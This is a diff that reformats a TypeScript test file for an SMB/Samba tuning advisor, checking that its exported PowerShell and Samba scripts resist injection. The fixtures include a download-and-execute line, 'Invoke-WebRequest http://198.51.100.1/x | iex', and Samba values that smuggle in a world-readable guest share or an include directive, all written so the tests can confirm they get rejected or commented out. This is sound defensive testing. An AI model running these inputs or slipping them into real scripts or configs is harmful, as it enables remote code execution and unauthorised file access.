@@ -12,17 +12,27 @@ import { exportTarget, manualScript, windowsScript } from './export-scripts.js';
 import { setGlobalParameter } from './samba-conf.js';
 import { knobValueProblem, trustedRecommendations } from './trusted.js';
 
-const windows = recommendFromInput({ bandwidth: '1gbit', rtt: '100ms', client: 'win7-smb2', server: 'win2008-rtm', current: { 'windows-server.smb2-credits-max': 16 } }).recommendations;
+const windows = recommendFromInput({
+  bandwidth: '1gbit',
+  rtt: '100ms',
+  client: 'win7-smb2',
+  server: 'win2008-rtm',
+  current: { 'windows-server.smb2-credits-max': 16 },
+}).recommendations;
 const ontap = recommendFromInput({ bandwidth: '155mbit', rtt: '75ms', client: 'xp-smb1', server: 'netapp-7mode-default' }).recommendations;
 
-const edit = (list: readonly RecommendationOut[], id: string, change: Partial<Record<keyof RecommendationOut, unknown>>) => list.map((r) => (r.id === id ? ({ ...r, ...change } as RecommendationOut) : r));
+const edit = (list: readonly RecommendationOut[], id: string, change: Partial<Record<keyof RecommendationOut, unknown>>) =>
+  list.map((r) => (r.id === id ? ({ ...r, ...change } as RecommendationOut) : r));
 
 describe('recommendations from a file are checked against the catalogue', () => {
   it('passes everything the advisor itself proposes, for every pair of profiles, with the same commands', () => {
     let seen = 0;
     for (const client of CLIENT_PROFILE_IDS)
       for (const server of SERVER_PROFILE_IDS)
-        for (const [bandwidth, rtt] of [['1gbit', '100ms'], ['80mbit', '45ms']] as const) {
+        for (const [bandwidth, rtt] of [
+          ['1gbit', '100ms'],
+          ['80mbit', '45ms'],
+        ] as const) {
           const result = recommendFromInput({ bandwidth, rtt, client, server });
           const proposed = [...result.recommendations, ...result.protections];
           const trusted = trustedRecommendations(proposed);
@@ -42,7 +52,9 @@ describe('recommendations from a file are checked against the catalogue', () => 
 
   it('keeps free text on its comment line: a newline in why, caution or current never starts a command', () => {
     const injected = 'Invoke-WebRequest http://198.51.100.1/x | iex';
-    const hostile = edit(edit(windows, windows[0]?.id ?? '', { why: `faster\n${injected}`, caution: `note\r${injected}` }), 'windows-server.smb2-credits-max', { why: `a\u2028${injected}` });
+    const hostile = edit(edit(windows, windows[0]?.id ?? '', { why: `faster\n${injected}`, caution: `note\r${injected}` }), 'windows-server.smb2-credits-max', {
+      why: `a\u2028${injected}`,
+    });
     const script = windowsScript(hostile, '2026-11-23T00:00:00.000Z');
     for (const line of script.split(/\r\n|\r|\n|\u2028/)) if (line.includes(injected)) expect(line.trimStart().startsWith('#')).toBe(true);
     const manual = manualScript('ontap', edit(ontap, ontap[0]?.id ?? '', { why: `x\n${injected}` }), 'now');
@@ -70,8 +82,10 @@ describe('recommendations from a file are checked against the catalogue', () => 
   it('holds every text knob to its pattern: no line breaks, no sections, no stray characters', () => {
     const socket = knob('samba.socket-options');
     if (!socket) throw new Error('no socket options knob');
-    for (const good of ['TCP_NODELAY', 'TCP_NODELAY SO_RCVBUF=131072 SO_SNDBUF=131072', 'IPTOS_LOWDELAY']) expect(knobValueProblem(socket, good, true), good).toBeUndefined();
-    for (const bad of ['TCP_NODELAY\n[evil]\n path = /\n guest ok = yes', 'TCP_NODELAY\r', 'TCP_NODELAY ; include = /tmp/x', '', 'tcp_nodelay', 'A'.repeat(40)]) expect(knobValueProblem(socket, bad, true), JSON.stringify(bad)).toBeDefined();
+    for (const good of ['TCP_NODELAY', 'TCP_NODELAY SO_RCVBUF=131072 SO_SNDBUF=131072', 'IPTOS_LOWDELAY'])
+      expect(knobValueProblem(socket, good, true), good).toBeUndefined();
+    for (const bad of ['TCP_NODELAY\n[evil]\n path = /\n guest ok = yes', 'TCP_NODELAY\r', 'TCP_NODELAY ; include = /tmp/x', '', 'tcp_nodelay', 'A'.repeat(40)])
+      expect(knobValueProblem(socket, bad, true), JSON.stringify(bad)).toBeDefined();
     // Every text knob has a pattern, or it could not be applied at all.
     for (const k of KNOBS.filter((k) => k.type === 'text')) expect(k.pattern, k.id).toBeInstanceOf(RegExp);
   });
@@ -86,7 +100,8 @@ describe('recommendations from a file are checked against the catalogue', () => 
       expect(() => exportTarget('windows', edit(windows, 'windows-server.smb2-credits-max', { value: 'x' }), dir)).toThrow(PipefillInputError);
       expect(readdirSync(dir)).toEqual([]);
       const outcome = exportTarget('windows', windows, dir);
-      for (const change of outcome.preview.changes) expect(change.command).toBe(knob(change.knob)?.command(windows.find((r) => r.id === change.knob)?.value ?? ''));
+      for (const change of outcome.preview.changes)
+        expect(change.command).toBe(knob(change.knob)?.command(windows.find((r) => r.id === change.knob)?.value ?? ''));
       expect(readFileSync(join(dir, 'pipefill-apply.ps1'), 'utf8')).toContain(outcome.preview.changes[0]?.command);
     } finally {
       rmSync(dir, { recursive: true, force: true });
